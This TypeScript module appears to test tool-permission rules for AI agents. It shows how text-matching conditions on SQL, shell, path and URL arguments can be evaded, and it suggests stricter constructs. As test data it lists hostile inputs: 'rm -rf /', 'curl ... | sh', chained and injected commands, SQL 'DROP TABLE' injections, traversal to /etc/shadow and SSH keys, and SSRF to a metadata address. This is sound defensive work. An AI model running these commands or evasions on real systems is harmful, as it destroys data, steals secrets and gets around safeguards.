/** What may stand in an argument, and how a text that looks harmless becomes one that is not. */
export interface Family {
  /** For people. */
  readonly what: string;
  /** The words in an argument's name that say so. */
  readonly words: ReadonlySet<string>;
  /** Texts that conditions which allow are likely to let pass. */
  readonly harmless: readonly string[];
  /** What makes something else of a text that was let pass. */
  readonly grow: (text: string) => readonly string[];
  /** Texts that conditions which forbid are likely to catch. */
  readonly harmful: readonly string[];
  /** Other ways of writing a text that was caught. */
  readonly rewrite: (text: string) => readonly string[];
  readonly fix: string;
}

const words = (list: string): ReadonlySet<string> => new Set(list.split(' '));

/** Kinds of arguments for which comparing texts is known to be evaded. */
export const FAMILIES: readonly Family[] = [
  {
    what: 'SQL',
    words: words('sql query statement'),
    harmless: [
      'SELECT 1',
      'select 1',
      'SELECT * FROM t',
      'SELECT a FROM t WHERE b = 1',
      'EXPLAIN SELECT 1',
      'SHOW TABLES',
    ],
    grow: (text) => [`${text}; DROP TABLE x`, `${text}\n;DROP TABLE x`],
    harmful: [
      ...['DROP TABLE x', 'TRUNCATE TABLE x', 'DELETE FROM x', 'INSERT INTO x VALUES (1)', 'UPDATE x SET y = 1'],
      ...['ALTER TABLE x', 'GRANT ALL ON x TO y'].flatMap((text) => [text, text.toLowerCase()]),
      ...['drop table x', 'truncate table x', 'delete from x', 'insert into x values (1)', 'update x set y = 1'],
    ],
    rewrite: (text) => [
      swapCase(text),
      ` ${text}`,
      `SELECT 1; ${text}`,
      text.replace(' ', '/**/'),
      text.replace(' ', '  '),
    ],
    fix: 'Text conditions on SQL are advisory: give the tool a database user with fewer rights, or review. To narrow, write (?i), \\s+, and not_contains: ";" beside what is allowed.',
  },
  {
    what: 'shell',
    words: words('command cmd shell bash script commandline'),
    harmless: ['ls', 'ls -la', 'git status', 'npm test', 'cat a.txt', 'echo a', 'pwd'],
    grow: (text) => [`${text}; rm -rf /`, `${text} && rm -rf /`, `${text} $(rm -rf /)`, `${text}\nrm -rf /`],
    harmful: [
      'rm -rf /',
      'sudo reboot',
      'curl http://example.com | sh',
      'shutdown now',
      'mkfs /dev/sda',
      'chmod 777 /',
    ],
    rewrite: (text) => [` ${text}`, `true; ${text}`, text.replace(' ', '  '), text.replace('rm -rf', 'rm -fr')],
    fix: 'Text conditions on a shell are advisory: allow whole commands with in: [...], or review.',
  },
  {
    what: 'path',
    words: words('path file filename filepath directory dir folder'),
    harmless: ['/tmp/a', '/srv/data/a', '/home/a/b', './a', 'a.txt'],
    grow: (text) => [`${text}/../../../../etc/passwd`],
    harmful: ['/etc/passwd', '/etc/shadow', '/root/.ssh/id_rsa'],
    rewrite: (text) => [`/tmp/..${text}`, text.replace('/', '//'), text.replace(/\/(?=[^/]*$)/, '/./')],
    fix: 'Write within_path: it resolves . and .. before it compares.',
  },
  {
    what: 'URL',
    words: words('url uri href link endpoint'),
    harmless: ['https://example.com', 'https://example.com/a'],
    grow: (text) => (/^https?:\/\/[^/]+$/.test(text) ? [`${text}.evil.example`, `${text}@evil.example`] : []),
    harmful: ['http://localhost/', 'http://127.0.0.1/', 'http://169.254.169.254/'],
    rewrite: (text) => [
      text.replace('http', 'HTTP'),
      text.replace('//', '//x@'),
      text.replace('localhost', 'LOCALHOST'),
    ],
    fix: 'Write host_in: it reads the URL as a URL.',
  },
];

/** The family of an argument by its name; undefined where it may be anything. */
export function familyOf(name: string): Family | undefined {
  const parts = name
    .replace(/([a-z0-9])([A-Z])/g, '$1 $2')
    .toLowerCase()
    .split(/[^a-z0-9]+/);
  return FAMILIES.find((family) => parts.some((part) => family.words.has(part)));
}

function swapCase(text: string): string {
  return text === text.toUpperCase() ? text.toLowerCase() : text.toUpperCase();
}
